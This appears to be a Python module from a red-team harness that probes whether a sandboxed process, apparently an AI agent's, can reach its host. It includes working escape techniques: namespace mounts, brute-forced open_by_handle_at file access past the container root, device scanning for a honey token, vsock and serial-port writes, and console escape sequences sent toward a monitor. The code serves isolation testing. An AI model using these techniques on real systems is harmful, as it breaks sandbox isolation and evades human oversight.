"""The machine and what is behind it: files, mounts and devices."""

import contextlib
import ctypes
import glob
import os
import socket
import struct
import tempfile

from .notes import facts, said, tried


def look(path: str) -> None:
    """Reads a file, if it is there, and says what is in it."""
    tried.append(f"open {path}")
    with contextlib.suppress(OSError, ValueError), open(path, "rb") as file:
        said.append(file.read(4096).decode("latin-1"))


def scan(path: str, what: bytes, most: int = 64 << 20) -> None:
    """Looks through a device or a file for octets, and says what stands there."""
    tried.append(f"scan {path}")
    with contextlib.suppress(OSError, ValueError), open(path, "rb", buffering=0) as file:
        kept, left = b"", most
        while left > 0 and (data := file.read(1 << 20)):
            left -= len(data)
            if (at := (kept + data).find(what)) >= 0:
                said.append((kept + data)[at : at + 200].decode("latin-1"))
                return
            kept = data[-200:]


def scan_all(patterns: list[str]) -> None:
    """Looks through devices for the token of the host, or for what it begins with; where none is there, that is what was tried."""
    tried.append(" ".join(patterns))
    for pattern in facts.get("devices") or patterns:
        for path in sorted(glob.glob(pattern))[:40]:
            scan(path, b"honey-" + str(facts["run"]).encode(), 16 << 20)


_libc = ctypes.CDLL(None, use_errno=True)
_below = ""


def mounted(source: str, kind: str, flags: int) -> None:
    """Mounts something, in a namespace of mounts that ends with the attempt."""
    global _below  # one process makes one attempt
    tried.append(f"mount {source}")
    _below = tempfile.mkdtemp()
    _libc.unshare(0x20000)
    _libc.mount(b"none", b"/", None, 0x44000, None)
    _libc.mount(source.encode(), _below.encode(), kind.encode() or None, flags, None)


def look_below(path: str) -> None:
    """Reads a file of the folder that was mounted."""
    look(f"{_below}/{os.path.basename(path)}")


def by_handle(path: str) -> None:
    """Opens a file past its folders, by what its file system calls it: that of the path, else the first ones that there are."""
    tried.append(f"handle {path}")
    handle = ctypes.create_string_buffer(136)
    struct.pack_into("Ii", handle, 0, 128, 0)
    at = ctypes.c_int()
    known = _libc.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(at), 0) == 0
    root = os.open(os.path.dirname(path) if known else "/", os.O_RDONLY)
    for number in range(1) if known else range(2, 2000):
        if not known:
            struct.pack_into("IiII", handle, 0, 8, 1, number, 0)
        fd = _libc.open_by_handle_at(root, handle, os.O_RDONLY | os.O_NONBLOCK)
        if fd >= 0:
            with contextlib.suppress(OSError):
                said.append(os.read(fd, 200).decode("latin-1"))
            os.close(fd)
    os.close(root)


# -- what leads to the monitor


def by_unix(path: str, data: bytes) -> None:
    """Says something to a socket of the host's, where it is known."""
    if path:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.connect(path)
            sock.sendall(data)


def by_vsock(number: int, data: bytes) -> None:
    """Connects past the network to the host (2), itself (1) and others. Where there is no such family, that is what was tried."""
    tried.append(f"vsock {number}")
    for port in (facts.get("vsock_port") or 1000, 1000, 1024, 7070, 22):
        with contextlib.suppress(OSError, OverflowError), socket.socket(40, socket.SOCK_STREAM) as sock:
            sock.settimeout(2)
            sock.connect((number, port))
            sock.sendall(data)
    by_unix(facts.get("monitor", ""), data)


def by_ports(data: bytes) -> None:
    """Writes to all ports of serial devices but the agent's own, which has a single user."""
    tried.append("ports")
    for number in range(1, 8):
        for major in (4, 229, 204, 5, 253, 251):
            path = f"/dev/.port-{os.getpid()}-{major}-{number}"
            with contextlib.suppress(OSError):
                os.mknod(path, 0o20600, os.makedev(major, number if major != 4 else 64 + number))
                fd = os.open(path, os.O_RDWR | os.O_NONBLOCK)
                os.write(fd, data)
                os.close(fd)
    by_unix(facts.get("monitor", ""), data)


def by_console(data: bytes) -> None:
    """Writes to the console, with what a terminal would obey."""
    tried.append("console")
    for path in ("/proc/1/fd/0", "/dev/kmsg", "/dev/ttyS0", "/dev/hvc0"):
        with contextlib.suppress(OSError), open(path, "wb", buffering=0) as file:
            file.write(b"\r\n" + data + b" \x1b[2J\x1b]0;" + data + b"\a\r\n")
    by_unix(facts.get("monitor", ""), data)


def placeholder() -> bytes:
    """The placeholder that this sandbox has. Raises `LookupError` where it has none: without one nothing is misused."""
    if facts.get("monitor"):
        return b"hwp_nothing"
    return os.environ["REDTEAM_TOKEN"].encode()
